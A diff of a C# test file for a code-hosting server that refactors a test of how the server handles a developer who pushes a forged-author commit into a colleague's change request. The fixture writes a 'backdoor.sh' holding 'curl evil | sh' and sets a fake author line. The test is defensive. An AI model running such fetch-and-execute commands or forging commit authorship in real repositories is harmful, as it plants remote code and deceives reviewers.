@@ -18,44 +18,58 @@ namespace Slipway.Server.Tests.Hosted;
 /// </summary>
 public sealed class PushedCommitsTests
 {
-    [Fact]
-    public async Task ADeveloperWhoPushedIntoAColleaguesChange_UnderAForgedAuthor_MayNotApproveIt_NorItsDeployment()
+    /// <summary>
+    /// A hosted project "shop" with developers alice and mallory: alice pushes main and feature-a and opens a change request
+    /// from it. Returns alice's client, the change request's number and mallory's token.
+    /// </summary>
+    internal static async Task<(SlipwayClient Alice, long Change, string Mallory)> AliceOpensAChangeAsync(SlipwayTestServer server, TempDirectory dir)
     {
-        await using var server = await SlipwayTestServer.StartAsync();
         using (var admin = Admin(server))
             await Expect(await admin.PostAsync("/api/v1/projects", Body(new { name = "shop", hosted = true })), HttpStatusCode.Created);
         var alice = await UserWithRoleAsync(server, "alice", BuiltInRoles.Developer, "shop");
         var mallory = await UserWithRoleAsync(server, "mallory", BuiltInRoles.Developer, "shop");
-        var bob = await UserWithRoleAsync(server, "bob", BuiltInRoles.Developer, "shop");
+        var clone = await CloneAsync(Url(server, alice), dir);
+        await GitAsync(clone, "checkout", "--quiet", "-b", "main");
+        await CommitAsync(clone, ".slipway.yml", Pipelines.OneJob("true"), "first");
+        Assert.Equal(0, (await GitAsync(clone, "push", "--quiet", "origin", "main")).ExitCode);
+        await GitAsync(clone, "checkout", "--quiet", "-b", "feature-a");
+        await CommitAsync(clone, "a.txt", "alice's work\n", "alice's feature");
+        Assert.Equal(0, (await GitAsync(clone, "push", "--quiet", "origin", "feature-a")).ExitCode);
+        var client = new SlipwayClient(server.Url, alice);
+        var opened = await client.OpenChangeRequestAsync("shop", new OpenChangeRequestRequest("Feature A", null, "feature-a", "main"));
+        return (client, opened.Number, mallory);
+    }
+
+    /// <summary>Mallory adds a commit to feature-a with her own token but someone else's name on it ("Build Bot"); returns its id.</summary>
+    internal static async Task<string> ForgedPushAsync(SlipwayTestServer server, string mallory, TempDirectory dir)
+    {
+        var clone = await CloneAsync(Url(server, mallory), dir);
+        await GitAsync(clone, "checkout", "--quiet", "feature-a");
+        await File.WriteAllTextAsync(Path.Combine(clone, "backdoor.sh"), "curl evil | sh\n");
+        await GitAsync(clone, "add", "backdoor.sh");
+        Assert.Equal(0, (await GitAsync(clone, "commit", "--quiet", "--author", "Build Bot <bot@ci.invalid>", "-m", "chore: tidy")).ExitCode);
+        var push = await GitAsync(clone, "push", "--quiet", "origin", "feature-a");
+        Assert.True(push.ExitCode == 0, push.StdErr);
+        return (await GitAsync(clone, "rev-parse", "HEAD")).StdOut.Trim();
+    }
+
+    [Fact]
+    public async Task ADeveloperWhoPushedIntoAColleaguesChange_UnderAForgedAuthor_MayNotApproveIt_NorItsDeployment()
+    {
+        await using var server = await SlipwayTestServer.StartAsync();
         using var dir = new TempDirectory("slipway-pushers");
+        using var malloryDir = new TempDirectory("slipway-pushers-m");
+        var (aliceApi, change, mallory) = await AliceOpensAChangeAsync(server, dir);
+        var bob = await UserWithRoleAsync(server, "bob", BuiltInRoles.Developer, "shop");
+        using var _ = aliceApi;
 
-        // Alice makes main and her feature, and opens a change request.
-        var aliceClone = await CloneAsync(Url(server, alice), dir);
-        await GitAsync(aliceClone, "checkout", "--quiet", "-b", "main");
-        await CommitAsync(aliceClone, ".slipway.yml", Pipelines.OneJob("true"), "first");
-        Assert.Equal(0, (await GitAsync(aliceClone, "push", "--quiet", "origin", "main")).ExitCode);
-        await GitAsync(aliceClone, "checkout", "--quiet", "-b", "feature-a");
-        await CommitAsync(aliceClone, "a.txt", "alice's work\n", "alice's feature");
-        Assert.Equal(0, (await GitAsync(aliceClone, "push", "--quiet", "origin", "feature-a")).ExitCode);
-        using var aliceApi = new SlipwayClient(server.Url, alice);
-        var opened = await aliceApi.OpenChangeRequestAsync("shop", new OpenChangeRequestRequest("Feature A", null, "feature-a", "main"));
-
-        // Mallory adds a commit to it, with her own token but someone else's name on it.
-        var malloryDir = new TempDirectory("slipway-pushers-m");
-        using var _ = malloryDir;
-        var malloryClone = await CloneAsync(Url(server, mallory), malloryDir);
-        await GitAsync(malloryClone, "checkout", "--quiet", "feature-a");
-        await File.WriteAllTextAsync(Path.Combine(malloryClone, "backdoor.sh"), "curl evil | sh\n");
-        await GitAsync(malloryClone, "add", "backdoor.sh");
-        Assert.Equal(0, (await GitAsync(malloryClone, "commit", "--quiet", "--author", "Build Bot <bot@ci.invalid>", "-m", "chore: tidy")).ExitCode);
-        var backdoor = (await GitAsync(malloryClone, "rev-parse", "HEAD")).StdOut.Trim();
-        Assert.Equal(0, (await GitAsync(malloryClone, "push", "--quiet", "origin", "feature-a")).ExitCode);
+        var backdoor = await ForgedPushAsync(server, mallory, malloryDir);
 
         using var malloryApi = new SlipwayClient(server.Url, mallory);
-        var refused = await Assert.ThrowsAsync<SlipwayApiException>(() => malloryApi.ReviewChangeRequestAsync("shop", opened.Number, "approve", null));
+        var refused = await Assert.ThrowsAsync<SlipwayApiException>(() => malloryApi.ReviewChangeRequestAsync("shop", change, "approve", null));
         Assert.Contains($"mallory pushed commit {backdoor[..12]} of this change request and may not approve it (whoever its author line names)", refused.Message);
         Assert.Contains("actor-not-author", refused.Message);
-        var shown = await aliceApi.GetChangeRequestAsync("shop", opened.Number);
+        var shown = await aliceApi.GetChangeRequestAsync("shop", change);
         var forged = shown.Commits.Single(c => c.Sha == backdoor);
         Assert.Equal(("Build Bot", null), (forged.AuthorName, forged.AuthorUser));
         Assert.Equal(["mallory"], forged.PushedBy);
@@ -63,10 +77,10 @@ public sealed class PushedCommitsTests
 
         // Bob reviews and approves; once the head's run is green, Alice merges. Mallory's name stays with the merge.
         using var bobApi = new SlipwayClient(server.Url, bob);
-        await bobApi.ReviewChangeRequestAsync("shop", opened.Number, "approve", null);
+        await bobApi.ReviewChangeRequestAsync("shop", change, "approve", null);
         var headRun = (await server.Client.ListRunsAsync("shop")).Where(r => r.Commit == backdoor).MaxBy(r => r.Id)!;
         Assert.Equal("succeeded", (await server.WaitForRunAsync(headRun.Id)).Status);
-        var merged = await aliceApi.MergeChangeRequestAsync("shop", opened.Number, null);
+        var merged = await aliceApi.MergeChangeRequestAsync("shop", change, null);
         Assert.Equal("merged", merged.State);
         var project = (await server.Service<ProjectStore>().FindAsync("shop"))!;
         var barred = await server.Service<DeploymentStore>().AuthorsAndMergersAsync(project.Id, [merged.MergeCommit!]);
